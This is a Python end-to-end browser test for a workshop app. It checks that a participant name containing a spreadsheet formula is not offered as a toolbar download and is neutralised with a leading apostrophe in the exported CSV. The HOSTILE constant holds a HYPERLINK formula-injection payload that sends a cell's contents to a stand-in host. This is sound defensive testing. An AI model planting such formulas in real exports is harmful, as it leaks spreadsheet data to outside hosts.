"""Typed names never leave the app as live spreadsheet formulas: no toolbar download, a guarded CSV instead."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from tests.e2e.conftest import choose, host_and_phone, shot
from tests.e2e.test_selfcheck_browser import idle

pytestmark = pytest.mark.e2e

HOSTILE = '=HYPERLINK("http://x/?"&A1,"open")'


def test_hostile_name_table_has_no_toolbar_download_and_the_csv_is_guarded(server, browser):
    with host_and_phone(browser, accept_downloads=True) as (host, phone):
        host.goto(f"{server}/workshop_host")
        host.get_by_label("研讨会名称").fill("公式注入测试")
        host.locator('[data-testid="stSelectbox"]').filter(has_text="作答方式").click()
        host.get_by_role("option", name="实名").click()
        host.get_by_role("button", name="创建研讨会").click()
        host.get_by_text("加入码", exact=True).wait_for()
        idle(host)
        code = re.search(r"[?&]w=([A-Z0-9]{6})", host.url).group(1)

        phone.goto(f"{server}/workshop?w={code}")
        phone.get_by_label(re.compile("姓名")).fill(HOSTILE)
        phone.get_by_role("button", name="加入").click()
        phone.get_by_text(re.compile("已答 0 / 34 题")).wait_for()
        form = phone.locator('[data-testid="stForm"]')
        for option in form.locator('[data-testid="stRadioOption"]').filter(has_text="规范级").all()[:4]:
            choose(option)
        phone.get_by_role("button", name="提交本组答案").click()
        phone.get_by_text(re.compile("已保存")).wait_for()

        host.wait_for_function(
            "() => [...document.querySelectorAll('[data-testid=\"stMetricValue\"]')].map(e => e.innerText)"
            ".join('|') === '1|4'", timeout=20_000)
        table = host.locator('[data-testid="stDataFrame"]').first
        table.hover()
        # the toolbar of this table (the QR image has one too)
        toolbar = host.locator('[data-testid="stElementContainer"]').filter(has=table).locator(
            '[data-testid="stElementToolbar"]')
        toolbar.wait_for()
        labels = [b.get_attribute("aria-label") or b.inner_text()
                  for b in toolbar.locator("button").all()]
        assert labels, "the table's toolbar shows at least search and fullscreen"
        assert not [x for x in labels if re.search("download|csv|下载", x, re.I)], labels
        shot(host, "guard-01-host-table-toolbar")

        host.get_by_text("我确认要结束本场研讨").click()
        host.get_by_role("button", name="结束研讨").click()
        host.get_by_role("heading", name="集体结果").wait_for()
        idle(host)
        with host.expect_download() as info:
            host.get_by_role("button", name=re.compile("下载原始答案（CSV）")).click()
        download = info.value
        assert download.suggested_filename.endswith(".csv") and "公式注入测试" in download.suggested_filename
        raw = Path(download.path()).read_bytes()
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
        assert [r[0] for r in rows[1:]] == ["'" + HOSTILE] * 4, rows
        shot(host, "guard-02-host-closed-exports")
